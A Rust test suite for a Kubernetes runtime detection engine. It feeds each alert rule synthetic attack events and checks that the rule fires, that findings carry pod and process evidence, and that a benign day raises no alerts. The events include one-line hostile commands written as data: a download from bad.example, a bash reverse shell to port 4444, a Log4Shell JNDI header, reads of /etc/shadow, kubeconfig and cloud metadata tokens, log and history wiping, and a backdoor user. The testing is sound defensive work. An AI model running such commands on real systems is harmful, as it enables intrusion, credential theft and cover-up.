//! Every runtime rule, fed the events a real attack produces, and a benign day fed to all.

use riposte_detect::runtime::rules::ALERT_TYPES;
use riposte_detect::runtime::{
    Action, Container, Endpoint, Process, ProcessEvent, RuntimeConfig, RuntimeEngine, Sensor,
};

fn container() -> Container {
    Container {
        id: "4f3c2b1a00000000000000000000000000000000000000000000000000000001".into(),
        name: Some("app".into()),
        image: Some("docker.io/library/debian:12".into()),
        pod: Some("web-1".into()),
        namespace: Some("shop".into()),
        pod_uid: Some("0b6c8f4e-1d2a-4c55-9a7e-3f1e2d4c5b6a".into()),
        service_account: Some("default".into()),
        privileged: Some(false),
    }
}

fn process(command: &str) -> Process {
    let mut words = split(command).into_iter();
    let program = words.next().expect("a command");
    let binary = if program.starts_with('/') { program.clone() } else { format!("/usr/bin/{program}") };
    Process {
        pid: 4242,
        exec_id: Some(format!("exec-{command}")),
        name: binary.rsplit('/').next().unwrap().to_owned(),
        binary,
        args: words.collect(),
        cwd: Some("/root".into()),
        uid: Some(0),
        ..Process::default()
    }
}

/// Words, with double or single quotes grouping.
fn split(command: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut quote = None;
    for c in command.chars() {
        match (quote, c) {
            (None, '"' | '\'') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (None, ' ') => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
            }
            _ => word.push(c),
        }
    }
    if !word.is_empty() {
        words.push(word);
    }
    words
}

fn event(command: &str, action: Action) -> ProcessEvent {
    ProcessEvent {
        time: "2026-12-01T10:00:00Z".parse().unwrap(),
        sensor: Sensor::Riposte,
        node: Some("node-1".into()),
        container: Some(container()),
        process: process(command),
        parent: Some(Process { pid: 1, name: "bash".into(), binary: "/usr/bin/bash".into(), ..Process::default() }),
        ancestors: vec!["containerd-shim".into()],
        action,
    }
}

fn exec(command: &str) -> ProcessEvent {
    event(command, Action::Exec)
}

fn config() -> RuntimeConfig {
    RuntimeConfig {
        bot_names: vec!["mirai".into()],
        malicious_download_sources: vec!["bad.example".into()],
        kubernetes_api_addresses: vec!["10.96.0.1".into()],
        dashboard_addresses: vec!["10.96.0.20".into()],
        ..RuntimeConfig::default()
    }
}

fn types(engine: &mut RuntimeEngine, events: &[ProcessEvent]) -> Vec<&'static str> {
    let mut found: Vec<&str> = events.iter().flat_map(|e| engine.evaluate(e)).map(|f| f.alert_type).collect();
    found.dedup();
    found
}

fn tcp(address: &str, port: u16) -> Endpoint {
    Endpoint { address: address.into(), port, protocol: "tcp".into() }
}

/// What an attacker does for each alert type: the events our sensor reports for it.
fn attacks() -> Vec<(&'static str, Vec<ProcessEvent>)> {
    let mut privileged = exec("/bin/bash");
    privileged.container.as_mut().unwrap().privileged = Some(true);
    privileged.process.exec_session = Some(true);
    let mut webshell = exec("sh -c id");
    webshell.parent =
        Some(Process { pid: 9, name: "httpd".into(), binary: "/usr/sbin/httpd".into(), ..Process::default() });
    let mut shutdown =
        event("kill -9 77", Action::Signal { target_pid: 77, signal: 9, target_name: Some("falco".into()) });
    shutdown.process.exec_id = Some("kill".into());
    vec![
        (
            "K8S.NODE_NamespaceCreation",
            vec![event("unshare -U true", Action::Namespace { syscall: "unshare".into(), flags: 0x1000_0000 })],
        ),
        (
            "K8S.NODE_HistoryFileCleared",
            vec![event("bash", Action::FileOpen { path: "/root/.bash_history".into(), write: true, truncate: true })],
        ),
        ("K8S.NODE_SuspectConnection", vec![exec("curl --socks5 10.0.0.9:1080 http://example.com/")]),
        ("K8S.NODE_TimerServiceDisabled", vec![exec("systemctl stop apt-daily-upgrade.timer")]),
        ("K8S.NODE_CommonBot", vec![exec("/tmp/mirai")]),
        ("K8S.NODE_PrivilegedExecutionInContainer", vec![privileged]),
        ("K8S.NODE_PrivilegedContainerArtifacts", vec![exec("docker run --privileged -v /:/host alpine")]),
        ("K8S.NODE_SuspectDownload", vec![exec("curl -s http://bad.example/x")]),
        ("K8S.NODE_SuspectDownloadArtifacts", vec![exec("curl -s -o /tmp/.x http://example.com/x")]),
        ("K8S.NODE_SuspectNohup", vec![exec("nohup /tmp/.hidden/run")]),
        ("K8S.NODE_SuspectUserAddition", vec![exec("useradd -m backdoor")]),
        ("K8S.NODE_DigitalCurrencyMining", vec![exec("/tmp/x -o stratum+tcp://pool.example:3333 -u wallet")]),
        ("K8S.NODE_ImageBuildOnNode", vec![exec("buildah bud -t evil .")]),
        ("K8S.NODE_KnownLinuxDDoSToolkit", vec![exec("/tmp/cupsdd")]),
        ("K8S.NODE_EICAR", vec![exec("/tmp/asc_alerttest_662jfi039n testing eicar pipe")]),
        ("K8S.NODE_KnownLinuxAttackTool", vec![exec("nmap -sS 10.0.0.0/24")]),
        ("K8S.NODE_LinuxBackdoorArtifact", vec![exec("/dev/shm/.x/sshd")]),
        ("K8S.NODE_ExploitAttempt", vec![exec("curl -H 'X-Api-Version: ${jndi:ldap://10.0.0.9/a}' http://victim/")]),
        ("K8S.NODE_KnownLinuxCredentialAccessTool", vec![exec("python3 /tmp/laZagne.py all")]),
        (
            "K8S.NODE_CryptoCoinMinerDownload",
            vec![exec("wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz")],
        ),
        (
            "K8S.NODE_SystemLogRemoval",
            vec![event("rm -f /var/log/wtmp", Action::FileDelete { path: "/var/log/wtmp".into() })],
        ),
        ("K8S.NODE_SuspectPasswordChange", vec![exec("usermod -p $6$salt$hash root")]),
        ("K8S.NODE_SuspectPortForwarding", vec![exec("ssh -N -R 8080:localhost:80 user@203.0.113.7")]),
        (
            "K8S.NODE_ReverseShell",
            vec![event("bash -i", Action::SocketRedirect { fd: 0, remote: Some(tcp("10.244.0.9", 4444)) })],
        ),
        ("K8S.NODE_CryptoCoinMinerArtifacts", vec![exec("/opt/xmrig")]),
        (
            "K8S.NODE_SshKeyAccess",
            vec![event(
                "bash",
                Action::FileOpen { path: "/root/.ssh/authorized_keys".into(), write: true, truncate: false },
            )],
        ),
        ("K8S.NODE_SuspectProcessTermination", vec![shutdown]),
        ("K8S.NODE_ContainerSSH", vec![exec("/usr/sbin/sshd -D")]),
        ("K8S.NODE_TimestampTampering", vec![exec("touch -r /bin/ls /tmp/tool")]),
        (
            "K8S.NODE_KubernetesAPI",
            vec![event("curl -k https://10.96.0.1/api/v1/secrets", Action::Connect(tcp("10.96.0.1", 443)))],
        ),
        ("K8S.NODE_KubernetesDashboard", vec![exec("curl http://kubernetes-dashboard.kubernetes-dashboard.svc/")]),
        ("K8S.NODE_CryptoCoinMinerExecution", vec![exec("/tmp/sys --donate-level 1 -o pool:443")]),
        (
            "K8S.NODE_SuspectPasswordFileAccess",
            vec![event(
                "cat /etc/shadow",
                Action::FileOpen { path: "/etc/shadow".into(), write: false, truncate: false },
            )],
        ),
        ("K8S.NODE_Webshell", vec![webshell]),
        (
            "K8S.NODE_ReconnaissanceArtifactsBurst",
            ["whoami", "id", "uname -a", "hostname", "ps aux"].iter().map(|c| exec(c)).collect(),
        ),
        (
            "K8S.NODE_DownloadAndRunCombo",
            vec![exec("curl -s -o /root/tool http://example.com/tool"), exec("/root/tool")],
        ),
        (
            "K8S.NODE_KubeConfigAccess",
            vec![event(
                "cat /host/var/lib/kubelet/kubeconfig",
                Action::FileOpen { path: "/host/var/lib/kubelet/kubeconfig".into(), write: false, truncate: false },
            )],
        ),
        (
            "K8S.NODE_ImdsCall",
            vec![event(
                "curl http://169.254.169.254/metadata/identity/oauth2/token",
                Action::Connect(tcp("169.254.169.254", 80)),
            )],
        ),
        ("K8S.NODE_MitreCalderaTools", vec![exec("/tmp/sandcat.go -server http://10.0.0.9:8888 -group red")]),
    ]
}

#[test]
fn every_alert_type_is_raised_by_its_attack() {
    let attacks = attacks();
    assert_eq!(attacks.iter().map(|(t, _)| *t).collect::<Vec<_>>(), ALERT_TYPES, "one attack per catalog id, in order");
    for (alert_type, events) in attacks {
        let mut engine = RuntimeEngine::new(config());
        let found = types(&mut engine, &events);
        assert!(found.contains(&alert_type), "{alert_type}: found {found:?}");
    }
}

#[test]
fn findings_name_the_pod_and_carry_the_process_evidence() {
    let mut engine = RuntimeEngine::new(config());
    let findings = engine.evaluate(&event(
        "cat /etc/shadow",
        Action::FileOpen { path: "/etc/shadow".into(), write: false, truncate: false },
    ));
    assert_eq!(findings.len(), 1);
    let finding = &findings[0];
    assert_eq!(finding.entities.pod.as_deref(), Some("web-1"));
    assert_eq!(finding.entities.namespace.as_deref(), Some("shop"));
    assert_eq!(finding.entities.container.as_deref(), Some("app"));
    assert_eq!(finding.entities.image.as_deref(), Some("docker.io/library/debian:12"));
    assert_eq!(finding.entities.node.as_deref(), Some("node-1"));
    assert_eq!(finding.entities.service_account.as_deref(), Some("default"));
    let evidence = |name: &str| finding.evidence.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str());
    assert_eq!(evidence("commandLine"), Some("/usr/bin/cat /etc/shadow"));
    assert_eq!(evidence("processTree"), Some("cat < bash < containerd-shim"));
    assert_eq!(evidence("file"), Some("/etc/shadow"));
    assert_eq!(evidence("sensor"), Some("riposte-sensor"));
    assert!(finding.summary.contains("pod shop/web-1 (container app)"), "{}", finding.summary);
}

#[test]
fn one_process_raises_one_alert_of_a_type() {
    let mut engine = RuntimeEngine::new(config());
    let redirects: Vec<ProcessEvent> = (0..3)
        .map(|fd| event("bash -i", Action::SocketRedirect { fd, remote: Some(tcp("10.244.0.9", 4444)) }))
        .collect();
    let found: Vec<_> = redirects.iter().flat_map(|e| engine.evaluate(e)).collect();
    assert_eq!(found.len(), 1, "{found:?}");
    let mut other = redirects[0].clone();
    other.process.exec_id = Some("another shell".into());
    assert_eq!(engine.evaluate(&other).len(), 1, "another process is another alert");
}

#[test]
fn a_burst_needs_enough_distinct_commands_within_its_window() {
    let mut engine = RuntimeEngine::new(config());
    let mut events: Vec<ProcessEvent> =
        ["whoami", "whoami", "id", "uname", "hostname"].iter().map(|c| exec(c)).collect();
    assert!(types(&mut engine, &events).is_empty(), "four distinct commands are not a burst");
    let mut late = exec("ps");
    late.time = "2026-12-01T10:05:00Z".parse().unwrap();
    events.push(late);
    let mut engine = RuntimeEngine::new(config());
    assert!(types(&mut engine, &events).is_empty(), "the fifth came after the window");
}

#[test]
fn a_download_run_elsewhere_is_not_a_combo() {
    let mut engine = RuntimeEngine::new(config());
    let download = exec("curl -s -o /root/tool http://example.com/tool");
    let mut elsewhere = exec("/root/tool");
    elsewhere.container.as_mut().unwrap().id = "another container".into();
    assert!(types(&mut engine, &[download, elsewhere]).is_empty());
}

#[test]
fn a_benign_day_raises_nothing() {
    let mut probe = exec("curl -fsS http://localhost:8080/healthz");
    probe.process.exec_session = Some(true);
    let mut rotate = event("gzip /var/log/syslog.1", Action::FileDelete { path: "/var/log/syslog".into() });
    rotate.parent = Some(Process { pid: 3, name: "logrotate".into(), ..Process::default() });
    let mut kubelet = event(
        "kubelet",
        Action::FileOpen { path: "/var/lib/kubelet/kubeconfig".into(), write: false, truncate: false },
    );
    kubelet.container = None;
    let mut login = event("sshd", Action::SocketRedirect { fd: 0, remote: Some(tcp("10.0.0.2", 50000)) });
    login.container = None;
    let day = vec![
        exec("nginx -g daemon off;"),
        exec("apt-get install -y curl"),
        exec("ls -la /etc"),
        exec("cat /etc/hostname"),
        exec("sh -c date"),
        probe,
        rotate,
        kubelet,
        login,
        event("passwd", Action::FileOpen { path: "/etc/shadow".into(), write: true, truncate: false }),
        event("python3 app.py", Action::Connect(tcp("10.96.0.10", 53))),
        event("curl", Action::Connect(tcp("10.244.0.7", 8080))),
        exec("curl -s http://10.244.0.7:8080/"),
        exec("wget -qO- http://web.shop.svc/"),
        exec("touch /tmp/ready"),
        exec("kill -HUP 1"),
        exec("sleep 3600"),
        exec("python3 -m http.server 8080"),
        event("bash", Action::FileOpen { path: "/root/.bash_history".into(), write: true, truncate: false }),
        event("sh", Action::Exit { code: Some(0) }),
        // A web server handing an accepted connection to its CGI script.
        {
            let mut cgi = event(
                "httpd -m http.server --cgi 8000",
                Action::SocketRedirect { fd: 0, remote: Some(tcp("127.0.0.1", 46278)) },
            );
            cgi.process.name = "httpd".into();
            cgi
        },
        // runc setting a container up, as the node sensor saw it on a real node.
        {
            let mut init = event("/dev/fd/6 init", Action::Namespace { syscall: "unshare".into(), flags: 0x2c02_0000 });
            init.process.name = "6".into();
            init
        },
    ];
    let mut engine = RuntimeEngine::new(config());
    let findings: Vec<_> = day.iter().flat_map(|e| engine.evaluate(e)).collect();
    assert!(findings.is_empty(), "{:#?}", findings.iter().map(|f| (&f.alert_type, &f.summary)).collect::<Vec<_>>());
}

#[test]
fn a_sensors_own_rule_is_kept_mapped_or_not_and_folds_into_ours() {
    use riposte_detect::runtime::{SENSOR_RULE, SensorAlert};
    let mut engine = RuntimeEngine::new(config());
    let read = event("cat /etc/shadow", Action::FileOpen { path: "/etc/shadow".into(), write: false, truncate: false });
    assert_eq!(engine.evaluate(&read).len(), 1);
    let mapped = SensorAlert {
        alert_type: Some("K8S.NODE_SuspectPasswordFileAccess"),
        rule: "Read sensitive file untrusted".into(),
        priority: "Warning".into(),
        output: "Sensitive file opened".into(),
    };
    assert_eq!(engine.sensor_alert(&read, &mapped), None, "the same sighting, seen by our rules already");
    let unmapped = SensorAlert { alert_type: None, rule: "Some custom rule".into(), ..mapped };
    let finding = engine.sensor_alert(&read, &unmapped).expect("an unmapped rule is still raised");
    assert_eq!(finding.alert_type, SENSOR_RULE);
    assert!(finding.evidence.contains(&("rule".to_owned(), "Some custom rule".to_owned())));
    assert_eq!(finding.entities.pod.as_deref(), Some("web-1"));
}
